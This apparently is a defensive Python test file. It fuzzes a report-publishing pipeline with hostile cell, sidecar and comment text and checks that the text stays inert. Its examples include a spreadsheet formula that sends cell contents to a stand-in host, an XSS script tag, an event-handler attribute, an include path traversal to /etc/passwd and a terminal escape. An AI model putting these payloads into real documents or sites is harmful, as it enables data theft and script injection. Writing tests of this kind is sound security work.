"""Whatever a cell or a sidecar holds: it is refused at the door, or it is text wherever it is shown."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator, Sequence
from functools import cache, partial
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from analysis.data import DATA_SETS
from analysis.report import ARTICLE
from pivot.blocks import generated
from pivot.charts.draw import prepare
from pivot.errors import ReportError, SnapshotError
from pivot.output import printable
from pivot.processes import Resident
from pivot.prose.raw import refusals
from pivot.prose.variables import variables
from pivot.publish.embedded.engine import Engine, find_pandoc
from pivot.revisions.pages import _environment
from pivot.snapshots import contracts, sidecar
from pivot.text import problem
from tests.conftest import NEWEST, build_ledger, ledger_of
from tests.regression.edited import SHIPPED, edited, everywhere
from tests.site.test_fuzz import HOSTILE, PLAIN, TAKEN, TEXT, letters, skeleton

TEXTS = [
    (spec.name, name)
    for spec in DATA_SETS.values()
    for name, column in spec.columns.items()
    if column.kind in {"text", "units"} and not column.allowed and name != spec.key
]
"""Columns whose cells are anybody's words."""
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def pandoc() -> Iterator[Engine]:
    engine = Engine(1)
    yield engine
    engine.close()


Cell = tuple[str, str, int, str]
"""Data set, column, row and text."""


EVERY = -1
"""In place of a row: the whole column."""


def put(cells: Sequence[Cell], table: pd.DataFrame) -> pd.DataFrame:
    for _, column, row, text in cells:
        rows = slice(None) if row == EVERY else row % len(table)
        table.iloc[rows, table.columns.get_loc(column)] = text
    return table


class Shown:
    """All that is made of the evidence with some cells changed: pages, and tables of charts."""

    def __init__(self, pandoc: Engine, cells: Sequence[Cell]) -> None:
        by_set: dict[str, list[Cell]] = {}
        for cell in cells:
            by_set.setdefault(cell[0], []).append(cell)
        vintage = edited(
            NEWEST,
            {
                path: table
                for data_set, edits in by_set.items()
                for path, table in everywhere(data_set, partial(put, edits)).items()
            },
        )
        ledger = build_ledger(vintage)
        values = dict(variables(ledger, vintage, len(ARTICLE.charts), ARTICLE.title))
        blocks = generated(ARTICLE, ledger, vintage)
        jobs = [
            {
                "op": "chapter",
                "text": f"# T\n\n{text}\n",
                "values": values,
                "number": True,
                "key": "k",
                "source": name,
            }
            for name, text in blocks.items()
        ]
        self.answers: list[dict[str, Any]] = pandoc.run(jobs)
        self.pages = [skeleton(answer["html"]) for answer in self.answers]
        self.tags = {tag for page in self.pages for tag in page.tags}
        self.tables = [one.csv() for one in prepare(ARTICLE.drawings, vintage, ledger).values()]
        self.texts = values


@pytest.fixture(scope="module")
def template(pandoc: Engine) -> Shown:
    return Shown(pandoc, ())


@st.composite
def cells(draw: st.DrawFn) -> Cell:
    """A cell with a text that its contract takes."""
    name, column = draw(st.sampled_from(TEXTS))
    spec = DATA_SETS[name].columns[column]
    text = draw(TAKEN.filter(lambda text: not contracts.expected(spec, text)))
    return name, column, draw(st.integers(0, 10_000)), text


@settings(max_examples=1, suppress_health_check=list(HealthCheck))
@given(changed=st.lists(cells(), min_size=1, max_size=12))
@example(
    [
        ("statements", "company", 3, '=HYPERLINK("https://e.x?"&A1,"open")'),
        ("pool_points", "entity", 0, "=1+1"),
        ("evidence", "publisher", 5, "<script>alert(1)</script>"),
        ("evidence", "note", EVERY, "<b onclick=x>x</b> `#panic()`{=typst}"),
    ]
)
def test_cells_are_text_wherever_they_are_shown(pandoc: Engine, template: Shown, changed: list[Cell]) -> None:
    """What the article's code says of a changed name may be another thing; it is never another element."""
    try:
        shown = Shown(pandoc, changed)
    except ReportError as error:  # a claim asks for what is not there now
        assert error.where  # noqa: PT017
        return
    assert shown.tags <= template.tags
    for answer in shown.answers:
        assert list(answer["problems"]) == []
        assert list(refusals((kind, one) for kind, one in answer["foreign"])) == []
    for table in shown.tables:
        for cells in csv.reader(io.StringIO(table, newline="")):
            assert not any(cell.startswith(FORMULA) and not is_number(cell) for cell in cells)
    for value in shown.texts.values():
        assert printable(value) == value


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9.]+(e[-+]?[0-9]+)?|[-+=@]", cell) is not None


GITHUB = """
for line in io.lines() do
  local text = pandoc.json.decode(line, false)
  local html = pandoc.write(pandoc.read(text, 'gfm'), 'html')
  io.write(pandoc.json.encode({html = html}), '\\n')
  io.flush()
end
"""
CALLING = ("closes ", "Fixed: ", "#2", "@someone", "GH-2", "https://github.com/o/r/issues/3", "resolve ")
CALLS = re.compile(r"[@#]\w|\bGH-\d|\bhttps?:|\bwww\.|(?i:\b(?:close[sd]?|fix(?:es|ed)?|resolve[sd]?)\b:?\s)")
"""What GitHub reads within one piece of text: somebody or something is called, an issue is closed."""
PLACES = (
    "<details><summary>{}</summary>\n\nx\n\n</details>",
    "- {}",
    "- because {}",
    "> before: {}",
    "| a | {} |\n|---|---|\n| {} | b |",
    "**{}**: x",
    "*stood in {}*",
    "Note: {}",
)


@pytest.fixture(scope="module")
def github(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[str], str]]:
    """Markdown as GitHub has it, through pandoc's reader of it."""
    script = tmp_path_factory.mktemp("github") / "github.lua"
    script.write_text(GITHUB, "utf-8")
    reader = Resident([find_pandoc(), "lua", str(script)])

    @cache
    def rendered(text: str) -> str:
        html: str = reader.ask(text, 60)["html"]
        return html

    yield rendered
    reader.close()


@settings(max_examples=60, suppress_health_check=list(HealthCheck))
@given(place=st.sampled_from(PLACES), text=st.lists(HOSTILE | st.sampled_from(CALLING)).map("".join))
@example("- {}", "# A heading")
@example("- {}", "1. x")
@example("**{}**: x", "closes #2")
@example(PLACES[0], "closes #2")
@example("- {}", "@_")
@example("- {}", ":::a:::")
@example("- {}", "_https://github.com/o/r/issues/3")
def test_a_comment_shows_text_as_it_is_and_calls_nobody(
    github: Callable[[str], str], place: str, text: str
) -> None:
    def comment(words: str) -> str:
        shown = _environment().filters["calm" if "summary" in place else "md"](words)
        return place.replace("{}", str(shown))

    text = text.strip() or PLAIN if "*" in place else text  # names, which have no blanks around them

    benign, hostile = skeleton(github(comment(PLAIN))), skeleton(github(comment(text)))
    shown = [tag for tag in hostile.tags if tag[0] != "comment"]
    assert shown == benign.tags
    assert letters(text) in letters("".join(hostile.text))
    assert not [words for words in hostile.text if CALLS.search(words)]


SIDECARS = [one for source in SHIPPED.sources() for one in SHIPPED.snapshots(source)[:1]]
VALUES = st.recursive(
    TEXT | st.text(max_size=20) | st.integers() | st.booleans() | st.dates(),
    lambda inner: st.lists(inner, max_size=3),
    max_leaves=4,
)


@given(one=st.sampled_from(SIDECARS), field=st.sampled_from(sorted(sidecar.FIELDS)), value=VALUES)
@example(SIDECARS[0], "url", ["https://e.x/{{<include../../../../../../etc/passwd>}}"])
@example(SIDECARS[0], "publisher", "a\x1b[2J")
def test_a_sidecar_is_refused_or_can_be_shown(one: sidecar.Snapshot, field: str, value: object) -> None:
    fields = sidecar.parse((SHIPPED.root.parent / sidecar.beside(one.path)).read_bytes(), "x")
    try:
        made = sidecar.snapshot({**fields, field: value}, source=one.path.split("/")[1], path=one.path)
    except SnapshotError as error:
        assert error.where  # noqa: PT017
        assert len(str(error)) < 5_000  # noqa: PT017
        return
    words = [made.title, made.publisher, made.licence, *made.notes, *made.url]
    assert not [word for word in words if problem(word)]


@pytest.mark.parametrize("value", ["-7.7", "-7.7; 0", "9" * 40])
def test_whatever_number_others_give_the_ledger_is_made(value: str) -> None:
    vintage = edited(NEWEST, everywhere("evidence", lambda table: table.assign(value=value)))
    assert build_ledger(vintage).entries.keys() == ledger_of(NEWEST).entries.keys()
